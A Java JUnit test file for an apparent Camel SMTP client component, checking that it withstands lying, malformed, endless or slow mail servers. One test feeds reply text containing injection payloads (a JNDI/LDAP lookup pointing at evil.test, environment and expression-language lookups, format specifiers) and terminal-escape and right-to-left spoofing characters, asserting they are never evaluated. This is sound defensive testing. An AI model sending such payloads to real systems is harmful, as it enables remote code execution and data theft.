/*
 * Copyright the camel-smtpx authors.
 * SPDX-License-Identifier: Apache-2.0
 */
package org.apache.camel.component.smtpx.security;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Locale;

import org.apache.camel.component.smtpx.SmtpxConstants;
import org.apache.camel.component.smtpx.SmtpxException;
import org.apache.camel.component.smtpx.SmtpxPermanentException;
import org.apache.camel.component.smtpx.SmtpxUnknownOutcomeException;
import org.apache.camel.component.smtpx.mail.Stage;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Servers that lie, babble or break the rules: the outcome stays true, the connection is given up, memory stays
 * bounded.
 */
class HostileReplyTest {

    private static final String[] STEPS = { "", "EHLO", "MAIL", "RCPT", "DATA", "." };

    private static ScriptedServer at(String command, String reply) throws Exception {
        return new ScriptedServer(new MailService().answering(command, reply));
    }

    private static Stage stage(String command) {
        return switch (command) {
            case "" -> Stage.GREETING;
            case "EHLO" -> Stage.HELLO;
            case "." -> Stage.FINAL;
            default -> Stage.valueOf(command);
        };
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "250 ok\n", "250-a\r\n550 b\r\n", "2500 ok\r\n", "25 ok\r\n", "250ok\r\n", "250_ok\r\n", " 250 ok\r\n",
            "+250 ok\r\n",
            "\u00D9\u00A2\u00D9\u00A5\u00D9\u00A0 ok\r\n", "000 ok\r\n", "199 ok\r\n", "600 ok\r\n", "999 ok\r\n", "\r\n",
            "ok\r\n",
            "HTTP/1.1 200 OK\r\n\r\n", "SSH-2.0-OpenSSH_9\r\n", "* OK IMAP4rev1\r\n",
            "\u0015\u0003\u0001\u0000\u0002\u0002\u0028\r\n",
            "250-a\r\n250 b\n", "250 a\rb\n" })
    void malformedReplyClosesTheConnectionAtEveryStep(String rubbish) throws Exception {
        for (String step : STEPS) {
            try (ScriptedServer server = at(step, rubbish); MailRoute route = new MailRoute(server, "")) {
                route.send("hello");

                SmtpxException failure;
                if (step.equals(".")) {
                    assertThat(route.outcome().unknown()).hasSize(1);
                    failure = (SmtpxException) assertUnknown(route);
                } else {
                    failure = route.failed(stage(step));
                }
                assertThat(failure).hasMessageContaining("no SMTP reply");
                assertThat(failure.getMessage().chars()).allMatch(c -> c >= ' ' && c < 0x7F);
                server.settle();
                assertThat(server.session().heard()).noneMatch(line -> line.equals("QUIT") || line.equals("RSET"));
            }
        }
    }

    private static Throwable assertUnknown(MailRoute route) {
        assertThat(route.last().getException()).isInstanceOf(SmtpxUnknownOutcomeException.class);
        return route.last().getException();
    }

    @ParameterizedTest
    @CsvSource({
            "'',250", "'',235", "'',334", "'',354", "EHLO,220", "EHLO,334", "EHLO,354", "MAIL,354", "MAIL,334", "RCPT,354",
            "RCPT,334",
            "DATA,250", "DATA,235", "DATA,220", "DATA,334" })
    void aReplyOfTheWrongKindEndsTheConnection(String command, int code) throws Exception {
        try (ScriptedServer server = at(command, code + " well\r\n"); MailRoute route = new MailRoute(server, "")) {
            route.send("hello");
            assertThat(route.failed(stage(command))).hasMessageContaining(String.valueOf(code));
            server.settle();
            assertThat(server.session().messages()).isEmpty();
            assertThat(server.session().heard()).noneMatch(line -> line.equals(".") || line.equals("RSET"));
        }
    }

    @ParameterizedTest
    @ValueSource(ints = { 220, 221, 235, 334, 354 })
    void aFinalReplyThatIsNoneLeavesTheOutcomeUnknown(int code) throws Exception {
        try (ScriptedServer server = at(".", code + " well\r\n"); MailRoute route = new MailRoute(server, "")) {
            route.send("hello");
            assertUnknown(route);
        }
    }

    @Test
    void anAcceptanceBeforeTheMessageIsNotBelieved() throws Exception {
        try (ScriptedServer server = at("DATA", "354 go\r\n250 queued as 42\r\n");
             MailRoute route = new MailRoute(server, "")) {
            route.send("hello");
            route.failed(route.outcome().stage());
            server.settle();
            assertThat(server.session().messages()).isEmpty();
        }
    }

    @ParameterizedTest
    @CsvSource({ "EHLO", "MAIL", "RCPT" })
    void oneReplyTooManyEndsTheConnection(String command) throws Exception {
        try (ScriptedServer server = at(command, "250 ok\r\n250 ok\r\n"); MailRoute route = new MailRoute(server, "")) {
            route.send("hello");
            route.failed(route.outcome().stage());
            server.settle();
            assertThat(server.session().messages()).isEmpty();
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "250\r\n", "250 \r\n", "251 will forward\r\n", "252 try\r\n", "254 well\r\n", "250-a\r\n250\r\n",
            "250 5.1.1 no\r\n" })
    void anAcceptanceInAnyWordsIsOne(String reply) throws Exception {
        try (ScriptedServer server = at("RCPT", reply); MailRoute route = new MailRoute(server, "")) {
            route.send("hello");
            route.delivered();
        }
    }

    @ParameterizedTest
    @ValueSource(strings = { "550 2.0.0 ok\r\n", "551 <new@elsewhere.test>\r\n", "550\r\n" })
    void rejectionTextIsNeitherInterpretedNorFollowed(String reply) throws Exception {
        try (ScriptedServer server = at("RCPT", reply); MailRoute route = new MailRoute(server, "")) {
            route.send("hello");
            assertThat(route.last().getException()).isInstanceOf(SmtpxPermanentException.class);
            assertThat(route.last().getMessage().getHeader(SmtpxConstants.ENHANCED_STATUS)).isNull();
            assertThat(server.heard()).noneMatch(line -> line.contains("elsewhere"));
        }
    }

    @ParameterizedTest
    @ValueSource(strings = { "", "EHLO", "MAIL", "RCPT", "DATA" })
    void aServerThatGoesAwayIsLeft(String command) throws Exception {
        try (ScriptedServer server = at(command, "421 4.3.2 shutting down\r\n"); MailRoute route = new MailRoute(server, "")) {
            route.send("hello");
            assertThat(route.failed(stage(command))).hasMessageContaining("421 4.3.2 shutting down");
        }
    }

    @ParameterizedTest
    @ValueSource(strings = { "", "EHLO", "MAIL", "RCPT", "DATA", "." })
    void anEndlessReplyEndsTheConnection(String command) throws Exception {
        for (String piece : List.of("250-" + "x".repeat(80) + "\r\n", "x")) {
            long[] taken = new long[1];
            try (ScriptedServer server = new ScriptedServer(session -> endless(session, command, piece, taken));
                 MailRoute route = new MailRoute(server, "")) {
                route.send("hello");
                assertThat(route.last().getException()).isInstanceOf(SmtpxException.class)
                        .hasMessageContaining("no SMTP reply");
                assertThat(route.outcome().delivered()).isEmpty();
                server.settle();
                // What the sockets of both ends hold, and not much more
                assertThat(taken[0]).isLessThan(16 << 20);
            }
        }
    }

    private static void endless(ServerSession session, String command, String piece, long[] taken) throws Exception {
        byte[] block = piece.repeat(65536 / piece.length()).getBytes(StandardCharsets.US_ASCII);
        if (!command.isEmpty()) {
            session.say("220 mx.example.test");
            String line = session.hear();
            while (!line.startsWith(command.equals(".") ? "DATA" : command)) {
                session.say("250 ok");
                line = session.hear();
            }
            if (command.equals(".")) {
                session.say("354 go");
                session.message();
            }
        }
        for (int i = 0; i < 16_384; i++) {
            session.write(block);
            taken[0] += block.length;
        }
    }

    @Test
    void anEhloReplyOfAnySizeIsBounded() throws Exception {
        StringBuilder many = new StringBuilder("250-mx\r\n");
        for (int i = 0; i < 10_000; i++) {
            many.append("250-X").append(i).append("\r\n");
        }
        try (ScriptedServer server = at("EHLO", many + "250 SIZE\r\n"); MailRoute route = new MailRoute(server, "")) {
            route.send("hello");
            assertThat(route.failed(Stage.HELLO)).hasMessageContaining("200 lines");
        }
    }

    @ParameterizedTest
    @ValueSource(strings = { "SIZE 99999999999999999999", "SIZE -1", "SIZE abc", "SIZE", "SIZE 0" })
    void aSizeThatIsNoneIsNoLimit(String keyword) throws Exception {
        try (ScriptedServer server = new ScriptedServer(new MailService().offers(keyword));
             MailRoute route = new MailRoute(server, "")) {
            route.send("hello");
            route.delivered();
        }
    }

    @Test
    void theFirstLineOfEhloOffersNothing() throws Exception {
        try (ScriptedServer server = at("EHLO", "250-STARTTLS PIPELINING CHUNKING\r\n250 HELP\r\n");
             MailRoute route = new MailRoute(server, "")) {
            route.send("hello");
            assertThat(route.delivered().via().plan()).isEqualTo("LOCK_STEP");
            assertThat(server.heard()).doesNotContain("STARTTLS");
        }
        try (ScriptedServer server = at("EHLO", "250 STARTTLS\r\n"); MailRoute route = new MailRoute(server, "")) {
            route.send("hello");
            route.delivered();
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "550 5.7.1 \u001b[31mred\u001b[0m\u0007", "550 ${jndi:ldap://evil.test/x} ${body} %s {} %n",
            "550 ${sysenv:HOME} #{1+1} $simple{header.x}", "550 \u00E2\u0080\u00AEtxt.exe", "550 \u00FF\u00FE\u0080",
            "550 a\u0000b\tc", "550 a\u007Fb\u0085c" })
    void replyTextIsPrintableAndNeverEvaluated(String reply) throws Exception {
        try (ScriptedServer server = at("RCPT", reply + "\r\n"); MailRoute route = new MailRoute(server, "")) {
            route.send("hello");

            assertThat(route.last().getException()).isInstanceOf(SmtpxPermanentException.class);
            List<String> shown = List.of(route.last().getException().getMessage(),
                    route.last().getMessage().getHeader(SmtpxConstants.REPLY_TEXT, String.class),
                    route.last().getMessage().getHeader(SmtpxConstants.REFUSED).toString(), route.outcome().toString());
            assertThat(shown).allSatisfy(text -> {
                assertThat(text.codePoints()).noneMatch(c -> Character.getType(c) == Character.CONTROL && c != '\t'
                        || Character.getType(c) == Character.FORMAT);
                if (reply.contains("$")) {
                    assertThat(text).contains(reply.substring(4));
                }
            });
        }
    }

    @Test
    void replyTextIsCappedWhereItIsShown() throws Exception {
        StringBuilder reply = new StringBuilder();
        for (int i = 0; i < 30; i++) {
            reply.append(i < 29 ? "550-" : "550 ").append("x".repeat(2000)).append("\r\n");
        }
        try (ScriptedServer server = at("RCPT", reply.toString()); MailRoute route = new MailRoute(server, "")) {
            route.send("hello");
            assertThat(route.last().getException().getMessage()).hasSizeLessThan(2000);
            assertThat(route.last().getMessage().getHeader(SmtpxConstants.REPLY_TEXT, String.class)).hasSizeLessThan(5000);
            assertThat(route.last().getMessage().getHeader(SmtpxConstants.REFUSED).toString()).hasSizeLessThan(1000);
        }
    }

    @Test
    void aServerThatSendsItsReplyInSingleOctetsIsUnderstood() throws Exception {
        try (ScriptedServer server = new ScriptedServer(session -> {
            for (String reply : List.of("220 mx", "250-mx\r\n250 SIZE", "250 ok", "250 ok", "354 go", "250 queued")) {
                for (byte octet : (reply + "\r\n").getBytes(StandardCharsets.US_ASCII)) {
                    session.write(new byte[] { octet });
                }
                if (reply.startsWith("354")) {
                    session.message();
                } else {
                    session.hear();
                }
            }
        }); MailRoute route = new MailRoute(server, "")) {
            route.send("hello");
            route.delivered();
        }
    }

    /** The octets go on until the connection is closed: three minutes to the limit of a line. */
    @Test
    @Timeout(60)
    void aTricklingServerIsHeldToTheDeadlineOfTheWholeReply() throws Exception {
        for (String command : List.of("", "EHLO", "MAIL", "RCPT", "DATA")) {
            try (ScriptedServer server = new ScriptedServer(session -> {
                if (!command.isEmpty()) {
                    session.say("220 mx.example.test");
                    while (!session.hear().toUpperCase(Locale.ROOT).startsWith(command)) {
                        session.say("250 ok");
                    }
                }
                for (int i = 0; true; i++) {
                    session.write(new byte[] { (byte) "250 x".charAt(Math.min(i, 4)) });
                    session.pause(50);
                }
            }); MailRoute route = new MailRoute(server, "greetingTimeout=300&commandTimeout=300&dataTimeout=300")) {
                route.send("hello");
                assertThat(route.failed(stage(command))).hasMessageContaining("no answer within 300 ms");
            }
        }
    }
}
